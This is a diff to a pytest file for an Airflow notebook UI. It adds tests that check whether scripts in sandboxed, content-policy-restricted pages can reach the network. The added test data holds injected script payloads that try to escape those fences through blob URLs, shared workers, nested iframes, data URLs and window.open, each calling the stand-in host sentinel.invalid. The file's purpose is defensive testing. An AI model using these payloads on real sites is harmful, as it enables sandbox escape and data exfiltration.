@@ -8,6 +8,7 @@ script which does run, and a request which does leave, would have been seen.
 from __future__ import annotations
 
 import contextlib
+import json
 import re
 import socket
 import threading
@@ -16,7 +17,15 @@ from typing import TYPE_CHECKING, Any
 from urllib.parse import unquote, urlsplit
 
 import pytest
-from browser import chromium
+from browser import (
+    NO_ALLOWLIST,
+    chromium,
+    keeps_off_network,
+    serving,
+    skip_where_scripts_reach_a_network,
+    started,
+    tab,
+)
 from hostile import MARKUP, NOTEBOOKS, RUN
 
 from airflow_nbjobs.ui.pages import NO_CONNECTIONS, NOTEBOOK_POLICY, SCRIPTED_POLICY
@@ -285,6 +294,20 @@ def has_heard(stun: socket.socket) -> bool:
         return False
 
 
+# A document within the document: it must not lose what fences its maker.
+NESTED = "<script>parent.postMessage(`ran nested`, `*`); fetch(`http://sentinel.invalid/nested`, {mode: `no-cors`})</script><img src=http://sentinel.invalid/nested.png>"
+
+
+def quoted(text: str) -> str:
+    """Return the text as JavaScript in a page."""
+    return json.dumps(text).replace("<", "\\u003c")
+
+
+def blob(text: str, kind: str = "text/javascript") -> str:
+    """Return JavaScript for the address of a blob with the text."""
+    return f"URL.createObjectURL(new Blob([{quoted(text)}], {{type: '{kind}'}}))"
+
+
 ASKING = {
     name: f"<script>{script}</script>"
     for name, script in {
@@ -301,7 +324,15 @@ ASKING = {
         "prefetch": "document.head.insertAdjacentHTML('beforeend', '<link rel=prefetch href=http://sentinel.invalid/prefetch>')",
         "speculation": "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: ['http://sentinel.invalid/speculation']}]}); document.head.append(s)",
         "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(\"http://sentinel.invalid/worker\")'])))",
+        "shared-worker": f"new SharedWorker({blob('fetch(`http://sentinel.invalid/shared`)')})",
         "import": "import('http://sentinel.invalid/import.js')",
+        "blob-import": f"import({blob('import(`http://sentinel.invalid/nested.js`)')})",
+        "blob-script": f"const s = document.createElement('script'); s.src = {blob('fetch(`http://sentinel.invalid/script`)')}; document.body.append(s)",
+        "blob-frame": f"const f = document.createElement('iframe'); f.src = {blob(NESTED, 'text/html')}; document.body.append(f)",
+        "blob-location": f"location = {blob(NESTED, 'text/html')}",
+        "blob-open": f"window.open({blob(NESTED, 'text/html')})",
+        "blob-object": f"const f = document.createElement('object'); f.data = {blob(NESTED, 'text/html')}; document.body.append(f)",
+        "data-frame": f"const f = document.createElement('iframe'); f.src = {quoted('data:text/html,' + NESTED)}; document.body.append(f)",
         "airflow": "fetch('/page')",
     }.items()
 }
@@ -315,8 +346,19 @@ def test_webrtc_gets_through_a_policy_of_content_alone(server, browser, stun):
     assert has_heard(stun)
 
 
+@pytest.mark.parametrize("arguments", [(), (NO_ALLOWLIST,)], ids=["as it is", "without the allowlist"])
+def test_the_tab_offers_scripts_only_to_a_browser_that_keeps_them_off_the_network(browser, arguments):
+    with started(browser.browser_type, *arguments) as running, serving(tab(scripted=1)) as url:
+        page = running.new_page()
+        page.goto(f"{url}/tab")
+        page.locator("#scripts p", has_text="do not run").wait_for()
+        assert page.locator("#scripts button").is_visible() is keeps_off_network(running)
+        assert not (arguments and keeps_off_network(running))
+
+
 def test_scripts_that_were_asked_for_run_and_reach_nothing(server, browser, stun):
     """Word for word, under the policy of the document with scripts, in our page's frame."""
+    skip_where_scripts_reach_a_network(browser)
     fences: dict[str, Any] = {
         "headers": {"Content-Security-Policy": SCRIPTED_POLICY} | NO_CONNECTIONS,
         "sandbox": "allow-scripts",
